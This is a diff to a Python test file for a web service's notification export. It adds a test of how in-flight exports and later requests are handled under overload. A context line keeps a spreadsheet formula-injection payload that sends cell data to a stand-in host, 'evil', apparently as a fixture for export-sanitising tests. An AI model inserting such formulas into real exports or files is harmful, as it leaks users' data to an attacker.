@@ -14,11 +14,14 @@ from aiohttp import web
 from srhooks.domain.clock import now_ms
 from srhooks.domain.feed_filter import Filter
 from srhooks.domain.models import NewNotification
+from srhooks.web.http import answer_budget
+from srhooks.web.http.answer_budget import MAX_IN_FLIGHT
+from srhooks.web.http.errors import OverloadedError
 from srhooks.web.pages import export as export_page
 from srhooks.web.pages.export import _all, _chosen
 from srhooks.web.state.app_keys import STORE
 
-from tests.support.harness import Browser, World, eventually
+from tests.support.harness import DEADLINE, Browser, World, eventually
 
 HOSTILE = '=HYPERLINK("http://evil/?"&A1,"click")'
 
@@ -189,6 +192,28 @@ async def test_an_export_that_fails_midway_is_seen_to_be_incomplete(world: World
                 os.truncate(world.settings.database_url.removeprefix("sqlite:///") + suffix, 0)
             with pytest.raises(aiohttp.ClientPayloadError):
                 await answer.content.read()
+
+
+async def test_one_that_has_begun_waits_longer_for_room(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(answer_budget, "ROOM_TIMEOUT", 0.05)
+    answers = world.services.answers
+
+    async def waits() -> bool:
+        return bool(answers._waiting)
+
+    async with world.logged_in() as ada:
+        await store_some(world, ada, 60, json.dumps("x" * 900_000).encode())
+        async with ada.session.get(f"{world.base}/notifications/export?format=ndjson") as answer:
+            taking = asyncio.create_task(answers.reserve(MAX_IN_FLIGHT, DEADLINE))
+            reading = asyncio.create_task(answer.content.read())
+            taken = await taking
+            await eventually(waits)
+            with pytest.raises(OverloadedError):  # who comes later is told so before
+                await answers.reserve()
+            taken.release()
+            assert (await reading).count(b"\n") == 60
 
 
 async def test_the_page_says_how_many_and_offers_each_format(world: World) -> None:
